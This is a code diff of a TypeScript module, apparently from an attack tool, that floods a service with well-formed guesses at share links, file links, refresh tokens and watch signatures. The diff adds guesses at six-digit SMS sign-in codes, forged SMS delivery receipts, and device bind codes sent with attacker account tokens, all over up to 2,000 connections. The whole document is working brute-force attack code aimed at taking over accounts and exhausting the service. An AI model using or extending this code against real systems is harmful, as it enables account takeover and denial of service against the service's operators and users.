@@ -1,4 +1,4 @@
-import { randomBytes } from 'node:crypto';
+import { randomBytes, randomInt, randomUUID } from 'node:crypto';
 import type { Socket } from 'node:net';
 import { getRequest, jsonRequest, openConnection, randomAddress, StatusCounts, statusOf } from './raw-client.js';
 import type { AttackTarget } from './raw-client.js';
@@ -12,17 +12,26 @@ const MAX_CONNECTIONS = 2_000;
 
 const randomToken = (bytes: number): string => randomBytes(bytes).toString('base64url');
 
+const sixDigits = (): string => String(randomInt(10 ** 6)).padStart(6, '0');
+
 /**
- * Requests that guess share links, file links, refresh tokens and watch signatures. Each guess is well-formed, so that
- * the service has to look it up.
+ * Creates requests that guess share links, file links, refresh tokens, watch signatures, SMS codes, signatures of SMS
+ * receipts and, with the accounts of the attacker, bind codes. Each guess is well-formed, so that the service has to
+ * look it up.
  */
-const PREPARED_GUESSES = [
+const GUESSES_BY_OPERATION: readonly ((token: string) => Buffer)[] = [
   () => getRequest(`/share/${randomToken(32)}`),
   () => getRequest(`/app-api/mcdisk/blob/${randomToken(64)}`),
   () => jsonRequest('/apis/v2/userctx/user/account/token/refresh', { refreshToken: randomToken(32) }),
   () =>
     jsonRequest('/apis/v2/userctx/watch/token/create', { did: 42, nonce: randomToken(32), signature: randomToken(64) }),
-].flatMap((create) => Array.from({ length: PREPARED_GUESSES_PER_OPERATION }, create));
+  () => jsonRequest('/apis/v2/userctx/user/account/sign-in', { challengeId: randomUUID(), code: sixDigits() }),
+  () => jsonRequest('/apis/v2/userctx/sms/receipt/webhook', { messageId: randomUUID(), state: 'DELIVERED' }),
+  (token) => {
+    const body = { bindCode: randomToken(16), confirmCode: sixDigits(), cid: randomUUID() };
+    return jsonRequest('/apis/v2/userctx/user/device/bind', body, token);
+  },
+];
 
 interface GuessingConnection {
   socket: Socket;
@@ -42,13 +51,19 @@ export class Guesses {
   addressCount = 0;
   private readonly idleConnections: GuessingConnection[] = [];
   private connectionCount = 0;
+  private readonly preparedGuesses: readonly Buffer[];
   private startedAt = 0;
   private sentOrSkippedCount = 0;
 
   constructor(
     private readonly target: AttackTarget,
     private readonly perSecond: number,
-  ) {}
+    tokens: readonly string[],
+  ) {
+    this.preparedGuesses = Array.from({ length: PREPARED_GUESSES_PER_OPERATION }, (_, index) => index).flatMap(
+      (index) => GUESSES_BY_OPERATION.map((create) => create(tokens[index % tokens.length] ?? '')),
+    );
+  }
 
   start(): void {
     this.startedAt = performance.now();
@@ -92,7 +107,7 @@ export class Guesses {
   private send(connection: GuessingConnection): void {
     connection.remainingGuesses -= 1;
     connection.sentAt = performance.now();
-    connection.socket.write(PREPARED_GUESSES[this.sentCount % PREPARED_GUESSES.length] as Buffer);
+    connection.socket.write(this.preparedGuesses[this.sentCount % this.preparedGuesses.length] as Buffer);
     this.sentCount += 1;
   }
 }
